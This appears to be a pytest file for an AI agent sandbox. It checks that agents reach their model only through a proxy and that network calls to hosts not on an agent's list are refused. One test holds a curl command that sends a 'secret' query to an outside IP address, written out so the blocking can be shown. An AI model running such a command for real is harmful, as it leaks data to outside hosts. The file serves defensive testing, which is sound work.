"""How agents live in a network of their own: their model is at a name that only the proxy knows."""

from __future__ import annotations

import os
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from app.children.sandbox import Bubblewrap, find_bubblewrap
from app.model.updates import NoticeUpdate
from tests.agents.kits import Kit
from tests.agents.model import Model
from tests.agents.rig import Rig, told
from tests.support.certificates import certified
from tests.support.outside import PUBLIC, Staged

HOST = "model.example"


FOUND = find_bubblewrap(os.environ["PATH"])
pytestmark = pytest.mark.skipif(
    not (isinstance(FOUND, Bubblewrap) and FOUND.own_network),
    reason="bubblewrap gives no network of its own here",
)


@pytest.fixture
async def far(
    installed: Kit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[Rig]:
    """Set an agent up whose model is somewhere on the internet."""
    context, trusted = certified(tmp_path, HOST)
    with Model(HOST, context) as model:
        made = Rig(installed, tmp_path, model, monkeypatch)
        made.outside = Staged({HOST: [PUBLIC]}, {PUBLIC: model.port})
        certificates = ("NODE_EXTRA_CA_CERTS", "SSL_CERT_FILE")
        made.settings = dict.fromkeys(certificates, str(trusted))
        yield made
        await made.close()
        assert made.processes() == []


@pytest.mark.kits("asks_a_model")
async def test_the_model_is_reached_through_the_proxy_alone(far: Rig) -> None:
    opened = await far.open(network="restricted")

    heard = await told(opened.session, "say the quick brown fox")

    assert heard.text.endswith("the quick brown fox")
    assert far.model.heard("the quick brown fox")


@pytest.mark.kits("asks_a_model")
async def test_a_command_of_an_agent_is_refused_what_is_not_on_its_list(far: Rig) -> None:
    opened = await far.open(network="restricted")

    heard = await told(
        opened.session, "run curl -sS https://93.184.215.99/?secret > sent.txt", "allow_once"
    )

    notices = [update.text for update in heard.heard if isinstance(update, NoticeUpdate)]
    assert "Network: refused 93.184.215.99:443, not on this agent's list." in notices
    assert (far.workspace / "sent.txt").read_text() == ""
